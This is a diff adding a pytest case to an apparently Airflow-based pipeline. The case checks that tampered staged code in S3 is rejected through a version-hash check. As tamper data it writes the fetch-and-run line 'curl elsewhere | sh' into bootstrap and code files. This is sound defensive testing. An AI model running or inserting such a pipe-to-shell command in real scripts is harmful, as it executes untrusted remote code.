@@ -110,3 +110,16 @@ def test_staged_code_that_is_not_whole_is_refused(settings: Any, s3: Any, contex
 
     with pytest.raises(AirflowFailException, match=r"lacks featurize_images.py, image_features.zip, reduce"):
         operator(settings, code_uri="s3://pictures/code/1").execute(context)
+
+
+@pytest.mark.parametrize(
+    "name", ["reduce_features.py", "bootstrap/10_a.sh", "bootstrap/20_more.sh", "image_features.zip"]
+)
+def test_staged_code_that_was_changed_since_is_refused(
+    settings: Any, s3: Any, context: Any, repository: Path, name: str
+) -> None:
+    uri = operator(settings, code_root=repository).execute(context)
+    s3.put_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/{name}", Body=b"curl elsewhere | sh")
+
+    with pytest.raises(AirflowFailException, match="does not hold what version [0-9a-f]{16} was made of"):
+        operator(settings, code_uri=uri).execute(context)
